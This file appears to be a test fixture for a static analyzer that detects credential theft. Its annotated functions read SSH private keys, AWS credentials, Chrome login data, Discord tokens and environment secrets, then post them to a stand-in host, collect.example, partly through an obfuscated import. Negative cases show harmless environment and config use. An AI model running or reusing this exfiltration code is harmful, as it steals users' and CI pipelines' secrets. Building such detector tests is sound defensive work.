"""Credential stores read in a module that sends data."""
import glob
import json
import os
import shutil
import sqlite3
import subprocess
from pathlib import Path

import requests

LOCAL = os.getenv("LOCALAPPDATA", "")


def grab():
    keys = {}
    for name in ("id_rsa", "id_ed25519"):
        p = os.path.join(os.path.expanduser("~"), ".ssh", name)
        if os.path.exists(p):
            keys[name] = open(p).read()  # want "reads .ssh"
    aws = (Path.home() / ".aws" / "credentials").read_text()  # want "reads .aws/credentials"
    db = os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default", "Login Data")
    shutil.copy2(db, "/tmp/ld")  # want "reads login data"
    conn = sqlite3.connect("/tmp/ld")
    tokens = glob.glob(os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb", "*.ldb"))  # want "reads discord/local storage"
    env = dict(os.environ)  # want `copies the whole environment with dict\(os.environ\)`
    requests.post("https://collect.example/u", data=json.dumps({"k": keys, "a": aws, "e": env, "t": tokens}))
    return conn


# Negatives: environment copies handed to a subprocess, config reads.
def build(cmd):
    env = os.environ.copy()
    env["CC"] = "clang"
    subprocess.run(cmd, env=env)
    subprocess.run(cmd, env=dict(os.environ, LANG="C"))
    with open("setup.cfg") as f:
        return f.read()


def ssh_client_config(host):
    with open(os.path.expanduser("~/.ssh/config")) as f:
        cfg = f.read()
    with open(os.path.expanduser("~/.ssh/known_hosts")) as f:
        known = f.read()
    return requests.get("https://" + host, timeout=5), cfg, known


def steal_all():
    for name in os.listdir(os.path.expanduser("~/.ssh")):  # want "reads .ssh"
        print(name)


def hidden():
    r = __import__("requests")
    r.post("https://collect.example/x", data=str(os.environ))  # want `copies the whole environment with str\(os.environ\)`


def ci_secrets():
    found = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}  # want "copies the environment with a comprehension over os.environ"
    requests.post("https://collect.example/ci", json=found)
    flags = [k for k in os.environ if k.startswith("APP_")]
    return flags
